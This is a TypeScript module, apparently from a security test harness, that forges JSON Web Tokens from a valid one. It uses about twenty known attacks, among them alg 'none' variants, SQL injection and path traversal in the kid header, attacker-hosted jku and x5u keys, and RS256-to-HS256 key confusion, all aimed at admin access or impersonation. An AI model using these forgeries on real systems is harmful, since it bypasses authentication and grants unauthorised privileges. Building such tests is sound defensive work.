import type { JsonWebKey } from 'node:crypto';
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { learnSecret } from '../transcript/redact.ts';
import { decodeToken } from './decode.ts';

type Json = Readonly<Record<string, unknown>>;
/** From the parts of a good token to those of an attacker's, who does not know the platform's secret. */
type Attack = (header: Json, claims: Json, signature: string) => string;

const encode = (part: Json | string) => Buffer.from(typeof part === 'string' ? part : JSON.stringify(part)).toString('base64url');
const unsigned = (header: Json, claims: Json | string) => `${encode(header)}.${encode(claims)}`;
/** Signed with a key that everybody can know. */
const signedWith = (key: string | Buffer, header: Json, claims: Json) => `${unsigned(header, claims)}.${createHmac('sha256', key).update(unsigned(header, claims)).digest('base64url')}`;
const admin = (claims: Json): Json => ({ ...claims, role: 'admin', permissions: ['admin'] });

/** Signed with a key of one's own, which the header offers for checking. */
function withOwnKey(offer: (jwk: Json) => Json): Attack {
  return (_header, claims) => {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const parts = unsigned({ alg: 'ES256', typ: 'JWT', ...offer({ ...publicKey.export({ format: 'jwk' }) }) }, claims);
    return `${parts}.${sign('sha256', Buffer.from(parts), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
  };
}

/** Attacks on tokens that have worked somewhere: RFC 8725, and what was found in libraries since. */
const ATTACKS = {
  'alg none': (_, claims) => `${unsigned({ alg: 'none' }, admin(claims))}.`,
  'alg None': (_, claims) => `${unsigned({ alg: 'None' }, admin(claims))}.`,
  'alg NONE': (_, claims) => `${unsigned({ alg: 'NONE' }, admin(claims))}.`,
  'alg nOnE': (_, claims) => `${unsigned({ alg: 'nOnE' }, admin(claims))}.`,
  'alg none, signature kept': (_, claims, signature) => `${unsigned({ alg: 'none' }, claims)}.${signature}`,
  'no alg at all': (_, claims) => `${unsigned({ typ: 'JWT' }, admin(claims))}.`,
  'alg null': (_, claims) => `${unsigned({ alg: null }, admin(claims))}.`,
  'signature left out': (header, claims) => `${unsigned(header, claims)}.`,
  'role raised, signature kept': (header, claims, signature) => `${unsigned(header, admin(claims))}.${signature}`,
  'another user, signature kept': (header, claims, signature) => `${unsigned(header, { ...claims, sub: 'somebody-else' })}.${signature}`,
  'a claim twice, signature kept': (header, claims, signature) => `${unsigned(header, JSON.stringify(claims).replace(/}$/, ',"role":"admin"}'))}.${signature}`,
  'empty key': (header, claims) => signedWith('', header, admin(claims)),
  'key named by a file that is empty': (header, claims) => signedWith('', { ...header, kid: '../../../../dev/null' }, admin(claims)),
  'key named by SQL': (header, claims) => signedWith('known', { ...header, kid: "x' UNION SELECT 'known' --" }, admin(claims)),
  'key offered in the header': withOwnKey((jwk) => ({ jwk })),
  'key at an address of one’s own': withOwnKey(() => ({ jku: 'https://keys.example.com/jwks.json', kid: 'mine' })),
  'certificate at an address of one’s own': withOwnKey(() => ({ x5u: 'https://keys.example.com/cert.pem' })),
  'critical header nobody knows': (header, claims, signature) => `${unsigned({ ...header, crit: ['exp'], exp: 9_999_999_999 }, claims)}.${signature}`,
  'a fourth part': (header, claims, signature) => `${unsigned(header, claims)}.${signature}.${signature}`,
  'padded base64': (header, claims, signature) => `${Buffer.from(JSON.stringify(header)).toString('base64')}.${encode(claims)}.${signature}=`,
} satisfies Record<string, Attack>;

export type TokenAttack = keyof typeof ATTACKS;
// Its keys are the names: the type says so, and `Object.keys` forgets it.
export const TOKEN_ATTACKS = Object.keys(ATTACKS) as readonly TokenAttack[];

/** A token as an attacker makes it who has a good one and not the platform's secret. */
export function attackedToken(good: string, attack: TokenAttack): string {
  const [, , signature = ''] = good.split('.');
  const { header = {}, claims = {} } = decodeToken(good) ?? {};
  const token = ATTACKS[attack](header, claims, signature);
  learnSecret(token);
  return token;
}

/**
 * Tokens of somebody who knows the published key of a platform that signs with RS256: signed with HS256, and that key, in each form it is written
 * down in, as the secret (RFC 8725, 2.1). By form; they say that their bearer is an administrator.
 */
export function confusedTokens(good: string, published: JsonWebKey): Readonly<Record<string, string>> {
  const key = createPublicKey({ key: published, format: 'jwk' });
  const { header = {}, claims = {} } = decodeToken(good) ?? {};
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const secrets = {
    'SPKI PEM': pem, 'SPKI PEM without its last newline': pem.trimEnd(), 'SPKI DER': key.export({ type: 'spki', format: 'der' }),
    'PKCS#1 PEM': key.export({ type: 'pkcs1', format: 'pem' }).toString(), 'JWK': JSON.stringify(published),
  };
  const tokens = Object.fromEntries(Object.entries(secrets).map(([form, secret]) => [form, signedWith(secret, { ...header, alg: 'HS256' }, admin(claims))]));
  Object.values(tokens).forEach(learnSecret);
  return tokens;
}
